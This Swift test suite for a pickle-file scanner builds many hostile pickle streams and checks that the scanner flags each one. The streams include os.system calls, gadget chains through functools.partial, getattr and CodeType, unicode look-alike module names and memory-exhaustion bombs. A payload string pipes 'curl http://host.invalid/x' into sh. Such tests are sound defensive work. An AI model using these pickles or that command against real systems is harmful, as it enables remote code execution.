// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletBytes
import MartletEvidence
import Testing

@testable import MartletScan

/// The tricks of the pickle machine that are published or that its opcodes allow: each a named file.
@Suite struct PickleMachineTests {
  private static func make(_ version: UInt8?, _ parts: PickleBuilder.Part...) -> Bytes {
    var builder = PickleBuilder(protocol: version)
    for part in parts { part.write(&builder.bytes) }
    return Bytes(builder.bytes)
  }

  private static let payload = "curl http://host.invalid/x | sh"
  private static let call = "os.system('id')"

  static let all: [PickleVector] = [
    // Numbers and lines.
    .init(
      "float with spaces in front of a call", .unsafe, "MRT-PKL-001", call,
      make(0, "F 1.0 \n0", .global("os", "system"), "(S'id'\ntR.")),
    .init(
      "zeros as a number in front of a call", .unsafe, "MRT-PKL-001", call,
      make(0, "L00\n0", .global("os", "system"), "(S'id'\ntR.")),
    .init("binary number", .unknown, "MRT-PKL-014", nil, make(0, "I0b11\n.")),
    .init("underscores in a number", .unknown, "MRT-PKL-014", nil, make(0, "L1_000L\n.")),
    .init(
      "more digits than CPython takes", .unknown, "MRT-PKL-014", nil,
      Bytes(Array(("L" + String(repeating: "9", count: 5000) + "L\n.").utf8))),
    .init(
      "a global at the end without its line end", .incomplete, "MRT-PKL-011", nil,
      make(2, "NNNcantigravit\ny")),
    .init("a dangerous module at the end", .unsafe, "MRT-PKL-002", nil, make(0, "cantigravity\nxx")),
    // Frames.
    .init(
      "a frame longer than the file", .unsafe, "MRT-PKL-001", call,
      make(
        4, .raw([0x95, 0xFF, 0xFF, 0, 0, 0, 0, 0, 0]), .stackGlobal("os", "system"), .text("id"), .tuple1,
        "R.")),
    .init(
      "a frame that ends inside a name", .unsafe, "MRT-PKL-002", nil,
      // What a file that cannot look ahead gives: the part in front of the end of the frame is lost.
      make(4, .raw([0x95, 3, 0, 0, 0, 0, 0, 0, 0]), "cxxos\nsystem\n.")),
    .init(
      "a frame in a frame", .incomplete, "MRT-PKL-011", nil,
      make(4, .raw([0x95, 12, 0, 0, 0, 0, 0, 0, 0, 0x95, 2, 0, 0, 0, 0, 0, 0, 0]), "N0N.")),
    .init(
      "a frame behind the STOP", .incomplete, "MRT-PKL-011", nil,
      make(4, .raw([0x95, 3, 0, 0, 0, 0, 0, 0, 0]), "N.", .raw([0]))),
    // Calls that leave no trace.
    .init("OBJ and POP", .unsafe, "MRT-PKL-001", call, make(1, "(", .global("os", "system"), "S'id'\no0N.")),
    .init("INST and POP", .unsafe, "MRT-PKL-001", call, make(0, "(S'id'\n", .inst("os", "system"), "0N.")),
    .init("REDUCE with a list", .unsafe, "MRT-PKL-001", nil, make(2, .global("os", "system"), "]S'id'\naR.")),
    .init("REDUCE with a text", .unsafe, "MRT-PKL-001", nil, make(2, .global("os", "system"), "S'id'\nR.")),
    .init(
      "a call as a key", .unsafe, "MRT-PKL-001", call,
      make(2, "}", .global("os", "system"), "(S'id'\ntRNs.")),
    .init(
      "a call as an argument of a vetted class", .unsafe, "MRT-PKL-001", call,
      make(2, .global("collections", "OrderedDict"), "(", .global("os", "system"), "(S'id'\ntRtR.")),
    // Names.
    .init(
      "a dotted name below protocol 4", .unsafe, "MRT-PKL-002", nil,
      make(2, .global("os", "path.os.system"), ".")),
    .init(
      "a module through an attribute", .unsafe, "MRT-PKL-002", nil,
      make(4, .stackGlobal("torch", "serialization.os.system"), ".")),
    .init(
      "__builtins__ of a module", .unsafe, "MRT-PKL-003", nil,
      make(4, .stackGlobal("numpy", "__builtins__"), ".")),
    .init(
      "a function's globals", .unsafe, "MRT-PKL-003", nil,
      make(4, .stackGlobal("collections", "namedtuple.__globals__"), ".")),
    .init(
      "__reduce_ex__ of object", .unsafe, "MRT-PKL-003", nil,
      make(4, .stackGlobal("builtins", "object.__reduce_ex__"), ".")),
    .init(
      "subclasses of object", .unsafe, "MRT-PKL-003", nil,
      make(4, .stackGlobal("builtins", "object.__subclasses__"), ")R.")),
    .init(
      "a method of a vetted class", .unsafe, "MRT-PKL-001", nil,
      make(4, .stackGlobal("numpy", "ndarray.tofile"), ")R.")),
    .init(
      "a path that is written", .unsafe, "MRT-PKL-001", nil,
      make(4, .stackGlobal("pathlib", "Path.write_text"), .text("/tmp/x"), .text("y"), .tuple2, "R.")),
    .init("Cyrillic letters", .unsafe, "MRT-PKL-017", nil, make(4, .stackGlobal("оs", "system"), ".")),
    .init("full-width letters", .unsafe, "MRT-PKL-017", nil, make(4, .stackGlobal("ｏｓ", "ｓystem"), ".")),
    .init(
      "a zero-width space", .unsafe, "MRT-PKL-017", nil, make(4, .stackGlobal("o\u{200B}s", "system"), ".")),
    .init(
      "a right-to-left override", .unsafe, "MRT-PKL-017", nil,
      make(4, .stackGlobal("collections", "\u{202E}OrderedDict"), ".")),
    .init("mathematical letters", .unsafe, "MRT-PKL-017", nil, make(4, .stackGlobal("𝐨𝐬", "system"), ".")),
    .init(
      "a typosquat", .unknown, "MRT-PKL-004", nil, make(4, .stackGlobal("colections", "OrderedDict"), ")R.")),
    .init(
      "Python 2's reduce", .unsafe, "MRT-PKL-001", nil, make(0, .global("__builtin__", "reduce"), "(tR.")),
    .init(
      "Python 2's urllib", .unsafe, "MRT-PKL-001", nil, make(0, .global("urllib", "urlopen"), "(S'x'\ntR.")),
    .init(
      "Python 2's apply", .unsafe, "MRT-PKL-001", nil,
      make(0, .global("__builtin__", "apply"), "(", .global("os", "system"), "(S'id'\nttR.")),
    // Writes.
    .init(
      "sys.modules", .unsafe, "MRT-PKL-006", nil,
      make(4, .stackGlobal("sys", "modules"), "(S'pickle'\n", .stackGlobal("os", "path"), "u.")),
    .init(
      "BUILD on a module", .unsafe, "MRT-PKL-006", nil, make(4, .stackGlobal("torch", "nn"), "}S'a'\nNsb.")),
    .init(
      "slot state on a class", .unsafe, "MRT-PKL-006", nil,
      make(2, .global("collections", "OrderedDict"), "N}S'__init__'\nNs", .tuple2, "b.")),
    .init("APPENDS on a global", .unsafe, "MRT-PKL-006", nil, make(2, .global("mod", "List"), "(Ne.")),
    .init(
      "ADDITEMS on a global", .unsafe, "MRT-PKL-006", nil,
      make(4, .global("mod", "Set"), "(N", .raw([0x90]), ".")),
    .init(
      "a call that is then built", .unsafe, "MRT-PKL-001", nil,
      make(2, .global("smtplib", "SMTP"), ")R}b.")),
    .init("a state on a list", .unknown, "MRT-PKL-007", nil, make(2, "]}S'a'\nNsb.")),
    // Gadgets in gadgets.
    .init(
      "partial", .unsafe, "MRT-PKL-002", nil,
      make(
        4, .stackGlobal("functools", "partial"), .stackGlobal("os", "system"), .text(payload), .tuple2, "R)R."
      )),
    .init(
      "map", .unsafe, "MRT-PKL-002", nil,
      make(
        4, .stackGlobal("builtins", "map"), .stackGlobal("os", "system"), "]", .text("id"), "a", .tuple2, "R."
      )),
    .init(
      "copyreg._reconstructor of a process", .unsafe, "MRT-PKL-002", nil,
      make(
        2, .global("copyreg", "_reconstructor"), "(", .global("subprocess", "Popen"),
        .global("builtins", "object"), "NtR.")),
    .init(
      "a defaultdict whose factory runs", .unsafe, "MRT-PKL-002", nil,
      make(2, .global("collections", "defaultdict"), "(", .global("os", "getcwd"), "tR.")),
    .init(
      "a nested expression", .unsafe, "MRT-PKL-005", "getattr(__import__('os'), 'system')('\(payload)')",
      make(
        2, .global("builtins", "getattr"), "(", .global("builtins", "__import__"),
        "(S'os'\ntRS'system'\ntR(S'", PickleBuilder.Part(stringLiteral: payload), "'\ntR.")),
    .init(
      "a pickle in a pickle in a tensor", .unsafe, "MRT-PKL-001", call,
      make(
        2, .global("torch.storage", "_load_from_bytes"), "(", .binary(PickleBuilder.system().array()), "tR.")),
    .init(
      "code of a function", .unsafe, "MRT-PKL-001",
      "types.CodeType(<code of f, which uses ('os', 'system') and (None, 'id')>)",
      make(
        4, .stackGlobal("types", "CodeType"), "(K\u{0}K\u{0}K\u{0}K\u{0}K\u{3}K\u{40}",
        .raw([0x43, 2, 0x64, 0]),
        "(N", .text("id"), "t(", .text("os"), .text("system"), "t)", .text("x.py"), .text("f"), "K\u{1}",
        .raw([0x43, 0, 0x43, 0]), "))tR.")),
    // Memory.
    .init(
      "a memo index of four thousand million", .unsafe, "MRT-PKL-018", nil,
      make(2, "N", .raw([0x72, 0xFF, 0xFF, 0xFF, 0xFF]), ".")),
    .init(
      "billion laughs", .unsafe, "MRT-PKL-018", nil,
      Bytes([0x80, 2, 0x4E] + (0..<40).flatMap { _ in [0x32, 0x86] as [UInt8] } + [0x2E])),
    .init(
      "a fraction of a thousand million digits", .unknown, "MRT-PKL-005", nil,
      make(4, .stackGlobal("fractions", "Fraction"), "(", .text("1e999999999"), "tR.")),
    .init(
      "a buffer of a computed size", .unknown, "MRT-PKL-005", nil,
      make(
        4, .stackGlobal("builtins", "bytearray"), "(", .stackGlobal("builtins", "int"), "(",
        .text("2000000000"), "tRtR.")),
    .init(
      "tuples in each other", .unsafe, "MRT-PKL-018", nil,
      Bytes(([0x80, 2, 0x4E] as [UInt8]) + [UInt8](repeating: 0x85, count: 100_000) + ([0x2E] as [UInt8]))),
    .init(
      "lists in each other", .unsafe, "MRT-PKL-018", nil,
      Bytes(
        ([0x80, 2] as [UInt8]) + [UInt8](repeating: 0x5D, count: 20_000)
          + [UInt8](repeating: 0x61, count: 19_999) + ([0x2E] as [UInt8]))),
    .init(
      "a length that overflows", .incomplete, "MRT-PKL-011", nil,
      make(4, .raw([0x8D, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0x7F]), ".")),
    .init("a negative length", .incomplete, "MRT-PKL-011", nil, make(2, .raw([0x8B, 0, 0, 0, 0x80]), ".")),
    // What does not load whole still ran.
    .init(
      "broken behind the payload", .unsafe, "MRT-PKL-001", call,
      Bytes(PickleBuilder.system().array().dropLast() + [0xFF])),
    .init(
      "cut behind the payload", .unsafe, "MRT-PKL-001", call, Bytes(PickleBuilder.system().array().dropLast())
    ),
    .init("an error that steers a loader", .unknown, "MRT-PKL-007", nil, make(2, "NNNs.")),
    .init(
      "eight streams, the last one bad", .unsafe, "MRT-PKL-001", call,
      Bytes(
        Array(repeating: [0x80, 2, 0x4E, 0x2E] as [UInt8], count: 7).flatMap { $0 }
          + PickleBuilder.system().array())),
    .init(
      "a memo of a global from the stream before", .unsafe, "MRT-PKL-001", call,
      make(2, .global("os", "system"), .raw([0x71, 5]), "0N.", .raw([0x80, 2, 0x68, 5]), "(S'id'\ntR.")),
  ]

  @Test(arguments: all) func isJudged(_ vector: PickleVector) {
    let report = vector.bytes.scanned
    let findings = report.artifacts[0].findings
    #expect(report.verdict == vector.verdict, "\(findings)")
    #expect(findings.contains { $0.rule == vector.rule }, "\(findings)")
    if let construct = vector.construct {
      #expect(findings.contains { $0.construct == construct }, "\(findings.map(\.construct))")
    }
  }

  /// Cut at every length and flipped everywhere: no crash, and never safe when it was not.
  @Test func mutationsAreRead() {
    for vector in Self.all where vector.bytes.count < 200 && vector.bytes.count > 0 {
      for index in 1..<vector.bytes.count {
        for bytes in [vector.bytes.slice(0..<index), vector.bytes.flipping(index, UInt8(1 << (index % 8)))] {
          var machine = PickleMachine(bytes.span, allow: .standard)
          #expect(machine.run(from: 0) ?? 0 <= bytes.count)
        }
      }
    }
  }
}
